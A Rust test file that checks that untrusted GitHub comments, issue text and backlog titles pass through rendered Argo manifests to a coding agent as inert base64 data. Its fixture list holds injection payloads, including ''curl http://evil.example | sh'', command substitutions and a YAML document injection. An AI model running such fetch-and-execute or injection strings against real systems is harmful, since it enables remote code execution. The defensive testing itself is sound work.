//! Untrusted text through the rendered manifests, under the model of Argo's substitution in
//! `argo_model.rs`: PR comments, issue bodies and the backlog's own text arrive byte for byte,
//! as data, where the agent reads them, and nothing else in the resulting CodeRun changes.
//! The origin project interpolated such text into shell scripts and YAML manifests; these tests
//! fail if any rendered template lets it reach Argo's templating as text again.

use base64::Engine as _;
use serde_json::{Value, json};

use crate::common::{diagnostics, documents, render_text};
use pressplay::model::subst as argo_model;

/// Text that breaks every naive path: Argo tags of both kinds, template syntax of other
/// engines, YAML and JSON structure, shell, quotes, control characters, Unicode, and size.
fn hostile() -> Vec<String> {
    let mut texts: Vec<String> = [
        "{{workflow.parameters.task-number}}",
        "{{inputs.parameters.brief}}{{workflow.name}}",
        "{{= sprig.b64dec('e3t3b3JrZmxvdy5uYW1lfX0=') }}",
        "{{=toJson(inputs.parameters)}}",
        "{{ unclosed",
        "}} {{ }}",
        "\"}, \"spec\": {\"taskId\": 0}, \"x\": {\"y\": \"",
        "line one\nmodel: evil\n---\napiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: pwned\n",
        "'; curl http://evil.example | sh; echo '",
        "$(id) ${HOME} `id` $$ $(PRESSPLAY_STAGE)",
        "\\ \\\\ \\\" \\n \\u0000",
        "tab\there\r\nCRLF",
        "ünïcödé Кириллица 한국어 עברית \u{202e}rtl e\u{301} 🔒🚀",
        "",
    ]
    .iter()
    .map(|s| (*s).to_owned())
    .collect();
    texts.push("{{workflow.parameters.event}} ".repeat(100 * 1024 / 32));
    texts
}

const BACKLOG: &str = "project:\n  name: shop\n  repository: acme/shop\ntasks:\n  - id: 7\n    title: Seven\n";

fn rendered(text: &str) -> Vec<Value> {
    let generated = render_text(text).unwrap_or_else(|e| panic!("{}", diagnostics(&e)));
    documents(&generated.files).into_iter().map(|(_, doc)| doc).collect()
}

fn named<'a>(docs: &'a [Value], kind: &str, name: &str) -> &'a Value {
    docs.iter()
        .find(|d| d["kind"] == kind && d["metadata"]["name"] == name)
        .unwrap_or_else(|| panic!("no {kind} {name}"))
}

fn decode(b64: &str) -> String {
    String::from_utf8(base64::engine::general_purpose::STANDARD.decode(b64).expect("base64")).expect("UTF-8")
}

/// The CodeRun an event-driven workflow creates, for a PR comment with this body.
fn coderun_for_comment(docs: &[Value], body: &str) -> Value {
    let event = json!({"body": {
        "X-GitHub-Event": "issue_comment", "X-GitHub-Delivery": "9f8e7d6c-0000-4000-8000-000000000001",
        "action": "created",
        "comment": {"body": body, "author_association": "OWNER"},
        "issue": {"number": 12, "labels": [{"name": "task-7"}], "pull_request": {"url": "https://api.github.com/x"}},
        "sender": {"type": "User", "login": "someone"},
    }});
    coderun_for_event(docs, "shop-pr-comment", &event)
}

/// The CodeRun a Sensor's workflow creates for an event: the Sensor's parameters are evaluated
/// and written as Argo Events does, then the workflow runs through every substitution pass.
fn coderun_for_event(docs: &[Value], sensor: &str, event: &Value) -> Value {
    let event = event.clone();
    let sensor = named(docs, "Sensor", sensor);
    let trigger = &sensor["spec"]["triggers"][0]["template"]["k8s"];
    let mut resource = trigger["source"]["resource"].clone();
    for parameter in trigger["parameters"].as_array().unwrap() {
        let src = &parameter["src"];
        let value = match (src["dataKey"].as_str(), src["dataTemplate"].as_str()) {
            (Some(key), _) => argo_model::data_key_value(&event, key).expect("the key is in the event"),
            // The label loop is outside the template model; its result is fixed by the filter
            // `^task-[0-9]{1,16}$`, so the number is what it can produce.
            (_, Some(template)) if template.contains("range ") => "7".to_owned(),
            // `int64` of a JSON number prints its integer digits.
            (_, Some(template)) if template.contains("int64 .Input.body.issue.number") => {
                format!("{}{}", template.split("{{").next().unwrap(), event["body"]["issue"]["number"])
            }
            // `index` and `sha256sum` are outside the template model; the name only needs to
            // be the same for the same delivery.
            (_, Some(template)) if template.contains("sha256sum") => {
                use sha2::Digest as _;
                let delivery = event["body"]["X-GitHub-Delivery"].as_str().unwrap();
                let hash: String =
                    sha2::Sha256::digest(delivery.as_bytes()).iter().map(|b| format!("{b:02x}")).collect();
                format!("{}{}", template.split("{{").next().unwrap(), &hash[..16])
            }
            (_, Some(template)) => argo_model::go_template(template, &event).expect("the template evaluates"),
            _ => unreachable!(),
        };
        resource = argo_model::sensor_parameter(
            &resource,
            parameter["dest"].as_str().unwrap(),
            &value,
            parameter["operation"].as_str().unwrap_or("overwrite"),
        );
    }
    let args: Vec<(String, String)> = resource["spec"]["arguments"]["parameters"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| (p["name"].as_str().unwrap().to_owned(), p["value"].as_str().unwrap().to_owned()))
        .collect();
    let args: Vec<(&str, &str)> = args.iter().map(|(n, v)| (n.as_str(), v.as_str())).collect();
    let template = named(docs, "WorkflowTemplate", resource["spec"]["workflowTemplateRef"]["name"].as_str().unwrap());
    let library = [named(docs, "WorkflowTemplate", "shop-stages").clone()];
    let executed = argo_model::run_with_library(template, &library, &args)
        .unwrap_or_else(|e| panic!("Argo fails on {event}: {e}"));
    let objects: Vec<Value> = executed.iter().flat_map(|e| e.objects().unwrap()).collect();
    assert_eq!(objects.len(), 1, "exactly one object is created");
    objects.into_iter().next().unwrap()
}

#[test]
fn pr_comments_reach_the_agent_byte_for_byte_and_change_nothing_else() {
    let docs = rendered(BACKLOG);
    let baseline = coderun_for_comment(&docs, "please fix the typo");
    assert_eq!(baseline["kind"], "CodeRun");
    assert_eq!(baseline["spec"]["taskId"], 7);
    for text in hostile() {
        let coderun = coderun_for_comment(&docs, &text);
        let carried = coderun["spec"]["env"]["PRESSPLAY_EVENT_B64"].as_str().unwrap();
        assert_eq!(decode(carried), text, "the comment changed on its way");
        let mut expected = baseline.clone();
        expected["spec"]["env"]["PRESSPLAY_EVENT_B64"] = Value::from(carried);
        assert_eq!(coderun, expected, "the comment {text:?} changed something else in the CodeRun");
    }
}

#[test]
fn issue_bodies_and_titles_reach_the_triage_agent_as_data() {
    let docs = rendered(BACKLOG);
    let issue = |title: &str, body: &str| {
        json!({"body": {
            "X-GitHub-Event": "issues", "X-GitHub-Delivery": "d-2", "action": "opened",
            "issue": {"number": 31, "title": title, "body": body, "author_association": "MEMBER"},
            "sender": {"type": "User", "login": "someone"},
        }})
    };
    let baseline = coderun_for_event(&docs, "shop-triage", &issue("t", "b"));
    assert_eq!(baseline["spec"]["taskId"], 31);
    for text in hostile() {
        let coderun = coderun_for_event(&docs, "shop-triage", &issue(&text, &text));
        let carried = coderun["spec"]["env"]["PRESSPLAY_EVENT_B64"].as_str().unwrap();
        let issue: Value = serde_json::from_str(&decode(carried)).unwrap();
        assert_eq!(issue["title"].as_str(), Some(text.as_str()));
        assert_eq!(issue["body"].as_str(), Some(text.as_str()));
        let mut expected = baseline.clone();
        expected["spec"]["env"]["PRESSPLAY_EVENT_B64"] = Value::from(carried);
        assert_eq!(coderun, expected, "the issue {text:?} changed something else in the CodeRun");
    }
}

/// The CodeRun the first stage of task 7 creates when the backlog says `title: <text>`.
fn coderun_for_title(title: &str) -> (Value, String) {
    let quoted = serde_json::to_string(title).unwrap();
    // One object holds about 200 KiB: a 100 KB text goes in `details` only.
    let title_quoted = if title.len() > 10_000 { "\"Long\"".to_owned() } else { quoted.clone() };
    let backlog =
        format!("project:\n  name: shop\ntasks:\n  - id: 7\n    title: {title_quoted}\n    details: {quoted}\n");
    let generated = render_text(&backlog).unwrap_or_else(|e| panic!("{}", diagnostics(&e)));
    let docs: Vec<Value> = documents(&generated.files).into_iter().map(|(_, doc)| doc).collect();
    // The task Workflow as the dispatcher creates it: the stages template, the task's chain as
    // its entrypoint and its record's arguments. The controller reads the merge state from the
    // task's ConfigMap; none exists yet, so every read takes its default.
    let record = crate::common::records(&generated.files).remove("7").expect("task 7's record");
    let mut stages = without_config_map_reads(named(&docs, "WorkflowTemplate", "shop-stages"));
    stages["spec"]["entrypoint"] = record["entrypoint"].clone();
    stages["spec"].as_object_mut().unwrap().remove("onExit");
    let arguments = crate::common::task_arguments(&generated.files, "7");
    let args: Vec<(&str, &str)> = arguments.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
    let executed = argo_model::run_with_library(&stages, std::slice::from_ref(&stages), &args)
        .unwrap_or_else(|e| panic!("Argo fails on {title:?}: {e}"));
    let first = executed.iter().find(|e| e.name == "coderun-author").expect("the author stage runs");
    let coderun = first.objects().unwrap().remove(0);
    // The agent reads its brief from the ConfigMap and key its CodeRun names.
    let env = &coderun["spec"]["env"];
    let map = env["TASK_BRIEF_CONFIGMAP"].as_str().unwrap().to_owned();
    let key = env["TASK_BRIEF_KEY"].as_str().unwrap().to_owned();
    let brief = decode(&crate::common::briefs(&generated.files)[&(map, key)]);
    (coderun, brief)
}

/// Replaces every `valueFrom: {configMapKeyRef, default}` by its default, as the controller
/// does when the ConfigMap does not exist, and drops the merge gate and the acceptance loop's
/// failure path (steps with a `when`): the model runs every task whatever its `when`, so it
/// would follow their recursion forever. Both call the same agent templates with the same
/// arguments as the path that stays.
fn without_config_map_reads(doc: &Value) -> Value {
    match doc {
        Value::Object(map) => {
            let mut out = serde_json::Map::new();
            for (key, value) in map {
                if key == "steps" && value.is_array() {
                    let groups: Vec<Value> = value
                        .as_array()
                        .unwrap()
                        .iter()
                        .map(|group| {
                            let kept: Vec<Value> =
                                group.as_array().unwrap().iter().filter(|s| s.get("when").is_none()).cloned().collect();
                            Value::Array(kept)
                        })
                        .filter(|group| !group.as_array().unwrap().is_empty())
                        .collect();
                    out.insert(key.clone(), without_config_map_reads(&Value::Array(groups)));
                } else if key == "tasks" && value.is_array() {
                    let kept: Vec<Value> = value
                        .as_array()
                        .unwrap()
                        .iter()
                        .filter(|t| t["template"] != "await-gate")
                        .map(without_config_map_reads)
                        .collect();
                    out.insert(key.clone(), Value::Array(kept));
                } else if key == "valueFrom" && value.get("configMapKeyRef").is_some() {
                    out.insert("value".into(), value["default"].clone());
                } else {
                    out.insert(key.clone(), without_config_map_reads(value));
                }
            }
            Value::Object(out)
        }
        Value::Array(items) => Value::Array(items.iter().map(without_config_map_reads).collect()),
        other => other.clone(),
    }
}

#[test]
fn backlog_text_reaches_the_agent_byte_for_byte_and_changes_nothing_else() {
    let (baseline, _) = coderun_for_title("Seven");
    for text in hostile().into_iter().filter(|t| !t.trim().is_empty()) {
        let (coderun, brief) = coderun_for_title(&text);
        let brief: Value = serde_json::from_str(&brief).unwrap();
        if text.len() <= 10_000 {
            assert_eq!(brief["title"].as_str(), Some(text.as_str()));
        }
        assert_eq!(brief["details"].as_str(), Some(text.as_str()));
        // The text never reaches the CodeRun: it is the same whatever the backlog says.
        assert_eq!(coderun, baseline, "the title {text:?} changed the CodeRun");
    }
}

/// The model is not a rubber stamp: the same hostile comment, written into a manifest the
/// unsafe way, does change the CodeRun.
#[test]
fn the_model_catches_the_unsafe_pattern() {
    let docs = rendered(BACKLOG);
    let mut stages = named(&docs, "WorkflowTemplate", "shop-stages").clone();
    for template in stages["spec"]["templates"].as_array_mut().unwrap() {
        if let Some(manifest) = template.pointer_mut("/resource/manifest") {
            let unsafe_text = manifest.as_str().unwrap().replace(
                "PRESSPLAY_EVENT_B64: \"{{inputs.parameters.event}}\"",
                "PRESSPLAY_EVENT: \"{{inputs.parameters.event}}\"",
            );
            *manifest = Value::from(unsafe_text);
        }
    }
    let remediation = named(&docs, "WorkflowTemplate", "shop-on-pr-comment");
    let raw = "x\"\n  injected: true\n  y: \"";
    let result = argo_model::run_with_library(remediation, &[stages], &[("task-number", "7"), ("event", raw)]);
    let changed = match result {
        Err(_) => true,
        Ok(executed) => {
            let objects: Vec<Value> = executed.iter().flat_map(|e| e.objects().unwrap_or_default()).collect();
            objects
                .iter()
                .any(|o| o["spec"]["env"].get("injected").is_some() || o["spec"]["env"]["PRESSPLAY_EVENT"] != raw)
        }
    };
    assert!(changed, "raw text in a manifest went through unchanged: the model would not catch a regression");
}
